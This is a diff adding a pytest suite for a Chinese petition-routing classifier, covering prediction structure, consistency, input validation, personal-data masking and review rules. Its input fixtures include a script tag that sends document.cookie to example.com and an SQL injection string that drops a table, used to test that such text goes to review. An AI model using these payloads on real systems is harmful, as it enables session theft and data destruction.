@@ -1,0 +1,217 @@
+"""One petition in, one suggestion out: whatever the text, never a crash, never a confident answer to nonsense."""
+
+import subprocess
+import sys
+from concurrent.futures import ThreadPoolExecutor
+from datetime import date
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from nlp.errors import BundleError, KnowledgeError, TaxonomyError, TextError
+from nlp.petition import HEADS, Petition, Suggestion
+from nlp.router import MAX_CHARACTERS, Router
+from nlp.taxonomy.records import SEPARATOR
+
+HEATING = Petition(
+    id="p1",
+    title="供暖温度不达标",
+    text="我家住在幸福里小区三号楼，入冬以来室内温度只有十四度，多次打热力公司电话都说在检修，"
+    "老人孩子冻得感冒，请有关部门督促热力公司尽快解决，并按规定退还取暖费。",
+)
+WAGES = Petition(
+    title="工地拖欠工资",
+    text="我们十一个人在城东工地干了四个月木工，包工头一分钱没给，总包公司说钱已经付了，"
+    "劳动监察让我们等消息，眼看要过年了，请帮我们要回血汗钱。",
+)
+ACCUSATION = Petition(
+    title="举报村主任", text="我村村主任张建国侵占征地补偿款三十万元，账目从不公开，请纪委严肃查处这个贪官。"
+)
+
+
+@pytest.fixture(scope="module")
+def router() -> Router:
+    return Router.load(n_threads=1)
+
+
+def reasons(suggestion: Suggestion) -> set[str]:
+    return {reason.code for reason in suggestion.decision.reasons}
+
+
+def test_a_suggestion_answers_every_head_and_says_where_it_comes_from(router):
+    suggestion = router.suggest(HEATING)
+    assert suggestion.petition_id == "p1"
+    assert set(suggestion.predictions) == set(HEADS)
+    for head, prediction in suggestion.predictions.items():
+        assert prediction.head == head
+        assert 1 <= len(prediction.candidates) <= 5
+        assert len({candidate.code for candidate in prediction.candidates}) == len(prediction.candidates)
+        assert all(0 <= candidate.confidence <= 1 for candidate in prediction.candidates)
+        assert all(candidate.code in router.taxonomy.labels[head] for candidate in prediction.candidates)
+    assert suggestion.bundle_id == router.bundle.id
+    assert suggestion.taxonomy_version == router.taxonomy.version
+    assert suggestion.legal_basis
+
+
+def test_the_plain_cases_are_understood(router):
+    assert router.suggest(WAGES).predictions["category_l1"].best.code == "劳动和社会保障"
+    assert router.suggest(WAGES).predictions["department"].best.code == "human_resources_social_security"
+    assert router.suggest(HEATING).predictions["category_l1"].best.code == "城乡建设"
+
+
+def test_the_second_level_lies_under_the_first(router, samples):
+    for petition in samples:
+        predictions = router.suggest(petition).predictions
+        first = predictions["category_l1"].best.code
+        assert predictions["category_l2"].best.code.partition(SEPARATOR)[0] == first
+
+
+def test_a_batch_gives_exactly_what_one_by_one_gives(router, samples):
+    sample = [*samples[:25], Petition(text="。"), Petition(text="停电" * 3000), HEATING]
+    together = router.suggest_many(sample)
+    assert together == [router.suggest(petition) for petition in sample]
+    assert router.suggest_many(sample[::-1]) == together[::-1]
+    assert router.suggest_many([]) == []
+
+
+def test_several_threads_get_the_same_answers(router, samples):
+    expected = [router.suggest(petition) for petition in samples[:16]]
+    with ThreadPoolExecutor(4) as pool:
+        assert list(pool.map(router.suggest, samples[:16])) == expected
+
+
+@pytest.mark.parametrize("text", ["", " ", "\n\t　"])
+def test_an_empty_petition_is_an_error(router, text):
+    with pytest.raises(TextError, match="信访内容为空"):
+        router.suggest(Petition(text=text))
+
+
+@pytest.mark.parametrize("text", [None, 7, b"x", ["a"]])
+def test_what_is_no_text_is_an_error(router, text):
+    with pytest.raises(TextError, match="须为文本"):
+        router.suggest(Petition(text=text))
+
+
+def test_a_text_beyond_the_limit_is_an_error_and_one_at_the_limit_is_read(router):
+    longest = ("小区停电三天没人管。" * (MAX_CHARACTERS // 10))[:MAX_CHARACTERS]
+    with pytest.raises(TextError, match="100001字，上限100000字") as caught:
+        router.suggest(Petition(text=f"{longest}。"))
+    assert "停电" not in str(caught.value)
+    assert len(router.suggest(Petition(text=longest)).predictions) == len(HEADS)
+
+
+@pytest.mark.parametrize("text", ["停", "?", "在吗", "你好啊", "😀", "\u200b", "\ufeff", "\ud800", "\x00"])
+def test_a_text_that_says_nothing_goes_to_a_person_as_too_short(router, text):
+    suggestion = router.suggest(Petition(text=text))
+    assert suggestion.decision.action == "review"
+    assert "too_short" in reasons(suggestion)
+
+
+STRANGE = {
+    "English": "The heating in our building has been broken for three weeks and nobody answers the phone, please help.",
+    "Russian": "В нашем доме уже три недели нет отопления, никто не отвечает на звонки, помогите, пожалуйста, нам.",
+    "Uyghur": "ئۆيىمىزنىڭ ئىسسىنىشى ئۈچ ھەپتىدىن بېرى بۇزۇلۇپ كەتتى، ھېچكىم تېلېفون ئالمايدۇ، ياردەم قىلىڭلار.",
+    "Tibetan": "ང་ཚོའི་ཁང་པའི་དྲོད་རླངས་བདུན་ཕྲག་གསུམ་རིང་ཆད་འདུག སུས་ཀྱང་ཁ་པར་མི་ལེན། རོགས་རམ་གནང་རོགས།",
+    "emoji": "😀😡🔥" * 20,
+    "digits": "1234567890 " * 20,
+    "punctuation": "，。！？；：" * 20,
+    "one character": "啊" * 200,
+    "random Chinese": "锟斤拷烫烫烫屯屯屯葺葺葺饕餮魑魅魍魉耄耋氤氲龃龉囹圄觊觎髑髅" * 2,
+    "HTML": "<html><head><style>p{color:red}</style></head><body><p>&nbsp;</p></body></html>",
+    "script": "<script>fetch('https://example.com/?c='+document.cookie).then(r => r.text())</script>" * 3,
+    "SQL": "'; DROP TABLE petitions; -- SELECT * FROM users WHERE name = 'a' OR 1 = 1; COMMIT;",
+    "base64": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+    # A GBK text read as Latin-1, as broken exports hold it.
+    "mojibake": "小区停电三天无人处理，请有关部门尽快解决".encode("gbk").decode("latin-1") * 2,
+}
+
+
+@pytest.mark.parametrize("kind", STRANGE)
+def test_what_is_no_chinese_petition_never_passes(router, kind):
+    suggestion = router.suggest(Petition(text=STRANGE[kind]))
+    assert suggestion.decision.action == "review"
+    # Whatever the thresholds of a later bundle: the text itself is the reason, not only a lack of confidence.
+    assert reasons(suggestion) & {"out_of_distribution", "too_short"}
+
+
+def test_a_petition_pasted_with_its_markup_is_still_read(router):
+    html = f"<div class='content'><p>{WAGES.text}</p><br/></div>"
+    predictions = router.suggest(Petition(title=WAGES.title, text=html)).predictions
+    assert predictions["category_l1"].best.code == "劳动和社会保障"
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=st.text(max_size=300), title=st.text(max_size=30))
+def test_no_text_breaks_the_router(router, text, title):
+    petition = Petition(title=title, text=text)
+    try:
+        suggestion = router.suggest(petition)
+    except TextError:
+        assert not petition.content.strip()
+        return
+    assert len(suggestion.predictions) == len(HEADS)
+    for evidence in suggestion.evidence:
+        assert 0 <= evidence.start < evidence.end <= len(petition.content)
+    for redaction in suggestion.redactions:
+        assert 0 <= redaction.start < redaction.end <= len(petition.content)
+
+
+def test_personal_data_is_nowhere_in_the_suggestion(router):
+    secrets = ("王小明", "13812345678", "11010519491231002X", "6222021234567890128", "wang@example.com")
+    name, phone, identity, card, mail = secrets
+    petition = Petition(
+        title="请求退费",
+        text=f"我叫{name}，身份证号{identity}，电话{phone}，银行卡{card}，邮箱{mail}。{HEATING.text}",
+    )
+    suggestion = router.suggest(petition)
+    said = repr(suggestion)
+    assert not [secret for secret in secrets if secret in said]
+    assert "[姓名]" in suggestion.masked_text
+    assert len(suggestion.redactions) >= 5
+    hidden = {petition.content[redaction.start : redaction.end] for redaction in suggestion.redactions}
+    assert {name, phone, identity} <= hidden
+
+
+def test_the_answer_does_not_depend_on_who_writes(router):
+    # Masked before the model sees it: another name, phone and card must give the very same scores.
+    first, second = (
+        router.suggest(Petition(text=f"我叫{name}，电话{phone}。{HEATING.text}"))
+        for name, phone in (("王小明", "13812345678"), ("李秀英", "15987654321"))
+    )
+    assert first.masked_text == second.masked_text
+    assert first.predictions == second.predictions
+
+
+def test_an_accusation_always_goes_to_a_person(router):
+    suggestion = router.suggest(ACCUSATION)
+    assert suggestion.decision.action == "review"
+    assert "must_review" in reasons(suggestion)
+
+
+def test_an_office_is_answered_in_its_own_names(tmp_path):
+    path = tmp_path / "office.yaml"
+    path.write_text(
+        "office: C3县信访局\ndepartments:\n  human_resources_social_security: {name: 县人社局, from: 2024-01-01}\n",
+        encoding="utf-8",
+    )
+    office = Router.load(taxonomy_overlay=path, on=date(2026, 1, 1), n_threads=1)
+    best = office.suggest(WAGES).predictions["department"].best
+    assert (best.code, best.name) == ("human_resources_social_security", "县人社局")
+
+
+def test_whatever_is_at_fault_is_told_when_loading(tmp_path):
+    broken = tmp_path / "broken.yaml"
+    broken.write_text("office: [", encoding="utf-8")
+    with pytest.raises(BundleError):
+        Router.load(tmp_path / "none")
+    with pytest.raises(TaxonomyError):
+        Router.load(taxonomy_overlay=broken)
+    with pytest.raises(KnowledgeError):
+        Router.load(knowledge_overlay=broken)
+
+
+def test_importing_the_package_and_the_router_loads_no_training_framework():
+    code = "import sys, nlp, nlp.router; print(sorted({'torch', 'transformers', 'sklearn'} & set(sys.modules)))"
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert done.stdout.strip() == "[]"
